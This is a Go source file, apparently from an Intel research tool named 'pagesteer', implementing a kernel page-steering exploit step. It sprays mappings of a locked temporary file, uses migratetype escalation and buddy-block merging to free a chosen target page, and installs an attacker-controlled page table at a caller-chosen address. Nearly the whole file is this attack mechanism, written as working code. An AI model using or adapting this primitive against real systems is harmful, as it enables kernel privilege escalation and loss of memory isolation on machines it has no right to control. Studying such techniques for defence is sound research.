// Copyright 2025 Intel Corporation. All Rights Reserved.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package escalate

import (
	"github.com/hashicorp/go-multierror"
	"github.com/pkg/errors"

	"github.com/intel/pagesteer/pkg/mapping"
	"github.com/intel/pagesteer/pkg/pageset"
	"github.com/intel/pagesteer/pkg/pcp"
)

// InstallContext holds the resources of an install. It must be released
// with Release on every path.
type InstallContext struct {
	// Fd is the spray file.
	Fd int
	// FileMapping is the mlocked mapping of the spray file.
	FileMapping pageset.Addr
	// Installed is where the spray file is mapped through the installed page table.
	Installed pageset.Addr

	m        mapping.Mapper
	spray    *Spray
	sprayed  bool
	released bool
}

// Release closes the descriptor, then unmaps the file mapping, the
// installed mapping and what is left of the spray. Subsequent calls are
// no-ops.
func (ic *InstallContext) Release() error {
	if ic == nil || ic.released {
		return nil
	}
	ic.released = true

	var errs error
	if ic.Fd >= 0 {
		if err := ic.m.Close(ic.Fd); err != nil {
			errs = multierror.Append(errs, err)
		}
	}
	if ic.FileMapping != 0 {
		if err := ic.m.Unlock(ic.FileMapping, pageset.PageSize); err != nil {
			errs = multierror.Append(errs, err)
		}
		if err := ic.m.Unmap(ic.FileMapping, pageset.PageSize); err != nil {
			errs = multierror.Append(errs, err)
		}
	}
	if ic.Installed != 0 {
		if err := ic.m.Unmap(ic.Installed, pageset.PageSize); err != nil {
			errs = multierror.Append(errs, err)
		}
	}
	if ic.spray != nil {
		var err error
		if ic.sprayed {
			err = ic.spray.Release(ic.m)
		} else {
			err = ic.spray.Clear(ic.m)
		}
		if err != nil {
			errs = multierror.Append(errs, err)
		}
	}

	if errs != nil {
		return errors.Wrap(errs, "failed to release install context")
	}
	return nil
}

// Released checks if the context has been released.
func (ic *InstallContext) Released() bool {
	return ic.released
}

// Protocol runs page-table installs.
type Protocol struct {
	m   mapping.Mapper
	ev  PCPEvictor
	opt *Options
}

// NewProtocol creates a protocol. A nil evictor evicts using the pcp
// configuration, nil options select the runtime configuration.
func NewProtocol(m mapping.Mapper, ev PCPEvictor, opts *Options) *Protocol {
	if ev == nil {
		ev = pcp.NewEvictor(m, nil)
	}
	if opts == nil {
		opts = opt
	}
	return &Protocol{m: m, ev: ev, opt: opts}
}

// InstallAddr returns the address where page tables are installed.
func (p *Protocol) InstallAddr() pageset.Addr {
	if p.opt.InstallAddr != 0 {
		return p.opt.InstallAddr
	}
	return p.opt.SprayBase.Add(uintptr(p.opt.SprayStride))
}

// Install runs the protocol for the layout and maps the spray file at dst
// once the target page has been freed. The target page must be mapped and
// locked by the caller. On failure everything acquired by Install has been
// released by the time it returns.
func (p *Protocol) Install(l Layout, dst pageset.Addr) (_ *InstallContext, retErr error) {
	if !pageset.IsPageAligned(dst) {
		return nil, errors.Wrapf(pageset.ErrInvalidArgument, "install address %s is not page-aligned", dst)
	}

	if l.FileTarget != 0 {
		if err := BlockMerge(p.m, p.ev, l.FileTarget, 0); err != nil {
			return nil, errors.Wrap(err, "failed to free file target")
		}
	}

	fd, err := p.m.OpenTmpFile(p.opt.SprayDir)
	if err != nil {
		return nil, errors.Wrap(err, "failed to create spray file")
	}

	ic := &InstallContext{Fd: fd, m: p.m}
	defer func() {
		if retErr != nil {
			if err := ic.Release(); err != nil {
				retErr = multierror.Append(retErr, err)
			}
		}
	}()

	if err := p.m.WriteMarker(fd); err != nil {
		return nil, errors.Wrap(err, "failed to write spray file")
	}

	file, err := p.m.MapShared(0, pageset.PageSize, fd, false)
	if err != nil {
		return nil, errors.Wrap(err, "failed to map spray file")
	}
	ic.FileMapping = file
	if err := p.m.Lock(file, pageset.PageSize); err != nil {
		return nil, errors.Wrap(err, "failed to lock spray file")
	}

	ic.spray = &Spray{
		Base:   p.opt.SprayBase,
		Count:  p.opt.SprayCount,
		Stride: uintptr(p.opt.SprayStride),
		Fd:     fd,
	}

	log.Debug("escalating bait %s/%d with spray of %d at %s", l.Bait, l.BaitOrder,
		ic.spray.Count, ic.spray.Base)

	alloc := func() error { return ic.spray.Map(p.m) }
	if err := MigratetypeEscalation(p.m, p.ev, l.Bait, l.BaitOrder, alloc); err != nil {
		return nil, err
	}
	if err := ic.spray.Unmap(p.m); err != nil {
		return nil, err
	}
	ic.sprayed = true

	if err := p.m.Unlock(l.Target, pageset.PageSize); err != nil {
		return nil, errors.Wrap(err, "failed to unlock target")
	}
	if err := BlockMerge(p.m, p.ev, l.Target, 0); err != nil {
		return nil, errors.Wrap(err, "failed to free target")
	}

	installed, err := p.m.MapShared(dst, pageset.PageSize, fd, true)
	if err != nil {
		return nil, errors.Wrapf(err, "failed to install page table at %s", dst)
	}
	ic.Installed = installed

	return ic, nil
}
